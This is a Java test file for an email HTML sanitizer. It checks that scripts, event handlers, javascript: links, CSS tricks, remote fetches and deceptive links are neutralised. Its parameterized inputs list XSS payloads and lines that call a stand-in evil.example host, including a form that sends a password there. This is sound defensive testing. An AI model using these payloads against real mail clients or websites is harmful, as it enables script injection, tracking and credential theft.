package org.callboard.communication;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What is left of a mail's HTML before anybody sees it. */
class MailHtmlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href='java\nscript:alert(1)'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<iframe src='https://evil.example'></iframe>",
                "<form action='https://evil.example'><input name=password></form>",
                "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<div style='background:url(https://evil.example/x)'>x</div>",
                "<div style='background:u\\72l(https://evil.example/x)'>x</div>",
                "<div style='width:expression(alert(1))'>x</div>",
                "<div style='position:fixed;top:0;left:0;z-index:9'>x</div>",
                "<div style='margin-top:-500px'>x</div>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<table background='https://evil.example/x'><tr><td>x</td></tr></table>",
                "<img srcset='https://evil.example/x 2x'>",
                "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
                "<video poster='https://evil.example/x'></video>"
            })
    void nothingRunsIsFetchedOrLiesOverThePage(String html) {
        assertThat(MailHtml.safe(html, false).toLowerCase())
                .doesNotContain("evil.example")
                .doesNotContain("alert(1)\"")
                .doesNotContain("onerror", "<script", "javascript:", "position", "margin-top", "svg", "expression");
    }

    @Test
    void picturesFromOutsideWaitUntilSomebodyAsks() {
        String html = "<p>Hello</p><img src='https://track.example/1.gif' alt='Logo'><img src='cid:logo@x' alt=''>";

        assertThat(MailHtml.hasRemoteImages(html)).isTrue();
        assertThat(MailHtml.safe(html, false))
                .doesNotContain("track.example", "<img")
                .contains("[Logo]");
        assertThat(MailHtml.safe(html, true))
                .contains("https://track.example/1.gif")
                .contains("referrerpolicy=\"no-referrer\"");
        assertThat(MailHtml.safe(html, false, id -> "/pictures/" + id)).contains("src=\"/pictures/logo@x\"");
        assertThat(MailHtml.hasRemoteImages("<img src='cid:x'>")).isFalse();
    }

    @Test
    void aLinkSaysWhereItReallyLeads() {
        assertThat(MailHtml.safe("<a href='https://evil.example/login'>https://bank.example/login</a>", false))
                .contains("(evil.example)")
                .contains("rel=\"noopener noreferrer nofollow\"");
        assertThat(MailHtml.safe("<a href='https://bank.example@evil.example/'>Log in</a>", false))
                .contains("(evil.example)");
        assertThat(MailHtml.safe("<a href='https://evil.example'>bank.example/?evil.example</a>", false))
                .contains("(evil.example)");
        assertThat(MailHtml.safe("<a href='https://bаnk.example/'>bank.example</a>", false))
                .as("a Cyrillic letter")
                .contains("(xn--");
        assertThat(MailHtml.safe("<a href='https://bank.example/a'>https://bank.example/a</a>", false))
                .doesNotContain(MailHtml.TARGET);
        assertThat(MailHtml.safe("<a href='https:\\\\evil.example'>x</a>", false))
                .doesNotContain("href");
    }

    @Test
    void lettersColoursAndTablesStay() {
        assertThat(MailHtml.safe(
                        "<table width=600><tr><td style='color: rgb(1,2,3); position: absolute'>Hi</td></tr></table>",
                        false))
                .contains("<table width=\"600\">")
                .contains("style=\"color: rgb(1,2,3)\"");
    }

    @Test
    void nothingIsNothing() {
        assertThat(MailHtml.safe(null, false)).isEmpty();
        assertThat(MailHtml.safe("  ", true)).isEmpty();
    }

    @Test
    void aTowerOfTagsIsNoTrouble() {
        assertThat(MailHtml.safe("<div>".repeat(20_000) + "deep", false)).contains("deep");
    }
}
